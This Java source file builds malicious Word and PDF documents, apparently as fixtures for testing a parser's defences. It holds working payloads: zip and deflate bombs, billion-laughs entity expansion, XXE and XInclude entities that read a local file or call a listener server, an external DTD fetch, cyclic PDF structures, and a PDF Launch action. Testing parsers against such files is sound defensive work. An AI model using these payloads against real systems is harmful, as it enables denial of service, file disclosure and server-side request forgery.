package dev.parley.hives;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/// Documents made to hurt whoever reads them.
public final class Bombs {
    private static final int HALF_A_GIBIBYTE = 1 << 29;
    private static final String NAMESPACE =
            "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
    private static final String TYPES =
            """
            <?xml version="1.0"?>
            <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
            <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
            <Default Extension="xml" ContentType="application/xml"/>
            <Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
            </Types>
            """;
    private static final String RELATIONS =
            """
            <?xml version="1.0"?>
            <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
            <Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>
            </Relationships>
            """;

    private Bombs() {}

    /// Writes what a part of a zip holds.
    private interface Part {
        void write(OutputStream out) throws IOException;
    }

    /// Word documents by what is wrong with them (F1, F2).
    ///
    /// @param canary address of a file
    /// @param listener address of a server
    public static Map<String, byte[]> words(String canary, String listener) {
        var bombs = new LinkedHashMap<String, byte[]>();
        bombs.put(
                "unpacks to half a gibibyte",
                word(
                        TYPES,
                        out -> {
                            out.write(
                                    ("<w:document " + NAMESPACE + "><w:body><w:p><w:r><w:t>")
                                            .getBytes(UTF_8));
                            repeat(out, "aaaaaaaaaaaaaaaa", HALF_A_GIBIBYTE / 16);
                            out.write("</w:t></w:r></w:p></w:body></w:document>".getBytes(UTF_8));
                        }));
        bombs.put(
                "has a million elements",
                word(
                        TYPES,
                        out -> {
                            out.write(("<w:document " + NAMESPACE + "><w:body>").getBytes(UTF_8));
                            repeat(out, "<w:tbl><w:tr><w:tc>", 1_000_000);
                        }));
        bombs.put("has twenty thousand parts", manyParts());
        bombs.put("says other sizes than it has", lying());
        bombs.put("reads a file", text(doctype("<!ENTITY x SYSTEM \"" + canary + "\">")));
        bombs.put("asks a server", text(doctype("<!ENTITY x SYSTEM \"" + listener + "/x\">")));
        bombs.put(
                "asks a server by its type",
                text("<!DOCTYPE w:document SYSTEM \"" + listener + "/dtd\">"));
        bombs.put("laughs a billion times", text(doctype(laughs())));
        bombs.put(
                "has a type among its types",
                word(
                        doctype("<!ENTITY x SYSTEM \"" + canary + "\">") + TYPES.substring(21),
                        document("fine")));
        bombs.put(
                "includes a file",
                word(
                        TYPES,
                        out ->
                                out.write(
                                        ("<w:document "
                                                        + NAMESPACE
                                                        + " xmlns:xi=\"http://www.w3.org/2001/XInclude\"><w:body><w:p>"
                                                        + "<w:r><w:t><xi:include href=\""
                                                        + canary
                                                        + "\" parse=\"text\"/></w:t></w:r></w:p></w:body></w:document>")
                                                .getBytes(UTF_8))));
        return bombs;
    }

    /// A Word document of one paragraph.
    public static byte[] word(String text) {
        return word(TYPES, document(text));
    }

    private static byte[] text(String prologue) {
        return word(
                TYPES,
                out -> {
                    out.write(prologue.getBytes(UTF_8));
                    document("&x;").write(out);
                });
    }

    private static Part document(String text) {
        return out ->
                out.write(
                        ("<w:document "
                                        + NAMESPACE
                                        + "><w:body><w:p><w:r><w:t>"
                                        + text
                                        + "</w:t></w:r></w:p></w:body></w:document>")
                                .getBytes(UTF_8));
    }

    private static String doctype(String entities) {
        return "<?xml version=\"1.0\"?><!DOCTYPE d [" + entities + "]>";
    }

    private static String laughs() {
        var entities = new StringBuilder("<!ENTITY l0 \"ha\">");
        for (int i = 1; i < 30; i++) {
            entities.append("<!ENTITY l%d \"".formatted(i));
            entities.append("&l%d;".formatted(i - 1).repeat(10)).append("\">");
        }
        return entities + "<!ENTITY x \"&l29;\">";
    }

    private static byte[] word(String types, Part document) {
        return zip(
                Map.of(
                        "[Content_Types].xml",
                        bytes(types),
                        "_rels/.rels",
                        bytes(RELATIONS),
                        "word/document.xml",
                        document));
    }

    private static Part bytes(String text) {
        return out -> out.write(text.getBytes(UTF_8));
    }

    private static byte[] manyParts() {
        var parts = new LinkedHashMap<String, Part>();
        parts.put("[Content_Types].xml", bytes(TYPES));
        parts.put("_rels/.rels", bytes(RELATIONS));
        parts.put("word/document.xml", document("many"));
        for (int i = 0; i < 20_000; i++) {
            parts.put("word/part" + i + ".xml", bytes("<x/>"));
        }
        return zip(parts);
    }

    /// The directory says that every part has four bytes.
    private static byte[] lying() {
        var zip = word(TYPES, out -> repeat(out, "<w:document>", 2_000_000));
        for (int i = 0; i + 46 < zip.length; i++) {
            if (zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 1 && zip[i + 3] == 2) {
                zip[i + 24] = 4;
                zip[i + 25] = 0;
                zip[i + 26] = 0;
                zip[i + 27] = 0;
            }
        }
        return zip;
    }

    private static byte[] zip(Map<String, Part> parts) {
        try (var bytes = new ByteArrayOutputStream();
                var zip = new ZipOutputStream(bytes)) {
            for (var part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                part.getValue().write(zip);
                zip.closeEntry();
            }
            zip.finish();
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void repeat(OutputStream out, String text, int times) throws IOException {
        var block = text.repeat(4_096).getBytes(UTF_8);
        for (int i = 0; i < times / 4_096; i++) {
            out.write(block);
        }
    }

    /// PDFs by what is wrong with them (F3).
    public static Map<String, byte[]> pdfs(String listener) {
        var bombs = new LinkedHashMap<String, byte[]>();
        var catalog = "1 0 obj<</Type/Catalog/Pages 2 0 R%s>>endobj\n";
        var plain = catalog.formatted("");
        bombs.put(
                "has a table that goes round in circles",
                pdf(plain, "trailer<</Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF\n"));
        bombs.put(
                "has pages that are their own children",
                pdf(
                        plain
                                + "2 0 obj<</Type/Pages/Kids[2 0 R 3 0 R]/Count 9>>endobj\n3 0 obj<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 9>>endobj\n",
                        trailer()));
        bombs.put(
                "says it has a million pages",
                pdf(
                        plain
                                + "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1000000>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R>>endobj\n",
                        trailer()));
        bombs.put(
                "names one page a hundred thousand times",
                pdf(
                        plain
                                + "2 0 obj<</Type/Pages/Kids["
                                + "3 0 R ".repeat(100_000)
                                + "]/Count 100000>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R>>endobj\n",
                        trailer()));
        bombs.put(
                "has objects in themselves",
                pdf(
                        plain
                                + "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj 3 0 R endobj\n5 0 obj<</Type/ObjStm/N 1/First 4/Extends 5 0 R/Length 12>>stream\n5 0 <</A 5 0 R>>\nendstream endobj\n",
                        trailer()));
        bombs.put("unpacks to half a gibibyte", flate());
        bombs.put(
                "starts programs and asks servers",
                pdf(
                        catalog.formatted(
                                        "/OpenAction<</S/Launch/F(/bin/false)>>/AcroForm<</XFA("
                                                + "<!DOCTYPE x SYSTEM \""
                                                + listener
                                                + "/xfa\"><x/>)>>")
                                + "2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n",
                        trailer()));
        bombs.put(
                "is nested deeply",
                pdf(plain + "2 0 obj" + "[".repeat(2_000_000) + "endobj\n", trailer()));
        bombs.put("is locked", Papers.lockedPdf());
        return bombs;
    }

    private static String trailer() {
        return "trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n";
    }

    private static byte[] pdf(String objects, String trailer) {
        return ("%PDF-1.4\n" + objects + trailer).getBytes(ISO_8859_1);
    }

    private static byte[] flate() {
        try (var packed = new ByteArrayOutputStream();
                var pdf = new ByteArrayOutputStream()) {
            try (var out = new DeflaterOutputStream(packed)) {
                repeat(out, "BT (aaaaaa) Tj ET ", HALF_A_GIBIBYTE / 18);
            }
            pdf.write(
                    ("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
                                    + "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
                                    + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R"
                                    + "/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>endobj\n"
                                    + "4 0 obj<</Filter/FlateDecode/Length "
                                    + packed.size()
                                    + ">>stream\n")
                            .getBytes(ISO_8859_1));
            packed.writeTo(pdf);
            pdf.write(("\nendstream endobj\n" + trailer()).getBytes(ISO_8859_1));
            return pdf.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
